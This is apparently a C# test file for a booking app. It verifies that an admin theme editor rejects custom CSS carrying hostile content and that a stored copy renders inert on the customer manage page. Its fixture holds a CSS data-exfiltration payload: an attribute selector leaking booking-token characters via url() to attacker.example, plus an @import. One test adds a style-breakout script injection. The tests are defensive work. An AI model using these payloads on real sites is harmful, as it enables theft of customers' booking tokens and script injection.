using System.Net;
using ManageBooking.Options;
using ManageBooking.Tests.Infrastructure;
using ManageBooking.Theming;
using Microsoft.EntityFrameworkCore;

namespace ManageBooking.Tests.Theming;

/// <summary>The exfiltration sheet: an editor cannot save it, and a row holding it anyway reaches no customer.</summary>
public sealed class ExtraCssTests() : AppTestBase(DatabaseProvider.Sqlite)
{
    private const string Exfiltration = "a[href^=\"/booking/manage/A\"]{background:url(https://attacker.example/A)}\n@import url(https://attacker.example/more.css);\n.mb-site-name{letter-spacing:.02em}";

    [Fact]
    public async Task SavingTheExfiltrationSheet_IsRefusedBesideTheFieldAndChangesNothing()
    {
        await AdminSession.CreateUserAsync(App, "editor@example.test", ManageBooking.Permissions.EditorRole);
        using var editor = await AdminSession.SignInAsync(App, "editor@example.test");
        var before = await App.QueryAsync(db => db.ThemeSettings.AsNoTracking().SingleOrDefaultAsync());

        using var response = await AdminSession.PostFormAsync(editor, "/admin/theme", "/admin/theme", ("CustomCss", Exfiltration));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var page = await HtmlPage.ParseAsync(response);
        Assert.Contains("url(https://attacker.example/A) is not allowed", page.Body!.TextContent, StringComparison.Ordinal);
        Assert.Contains("@import is not allowed", page.Body.TextContent, StringComparison.Ordinal);
        var after = await App.QueryAsync(db => db.ThemeSettings.AsNoTracking().SingleOrDefaultAsync());
        Assert.Equal(before?.CustomCss, after?.CustomCss);
    }

    [Fact]
    public async Task SavingSafeCss_Works()
    {
        await AdminSession.CreateUserAsync(App, "editor@example.test", ManageBooking.Permissions.EditorRole);
        using var editor = await AdminSession.SignInAsync(App, "editor@example.test");

        using var response = await AdminSession.PostFormAsync(editor, "/admin/theme", "/admin/theme", ("CustomCss", ".mb-site-name{background:url(/logo.png)}"));

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal(".mb-site-name{background:url(/logo.png)}", await App.QueryAsync(db => db.ThemeSettings.Select(t => t.CustomCss).SingleAsync()));
    }

    [Fact]
    public async Task ARowHoldingTheSheetAnyway_ReachesTheManagePageInert()
    {
        await App.ArrangeAsync(async db =>
        {
            var theme = await db.ThemeSettings.FirstOrDefaultAsync() ?? db.ThemeSettings.Add(new ThemeSettings()).Entity;
            theme.CustomCss = Exfiltration + "\n</style><script>alert(1)</script>";
        });
        var (_, token) = await BookWithTokenAsync("30-minute-meeting", "2026-03-03T10:00:00-05:00");

        var page = await HtmlPage.GetAsync(Client, $"/booking/manage/{token}");

        var style = string.Concat(page.QuerySelectorAll("style").Select(s => s.TextContent));
        Assert.Contains(".mb-site-name{letter-spacing:.02em}", style, StringComparison.Ordinal);
        Assert.DoesNotContain("attacker", style, StringComparison.Ordinal);
        Assert.DoesNotContain("import", style, StringComparison.Ordinal);
        Assert.Empty(page.QuerySelectorAll("script:not([src])"));
    }
}
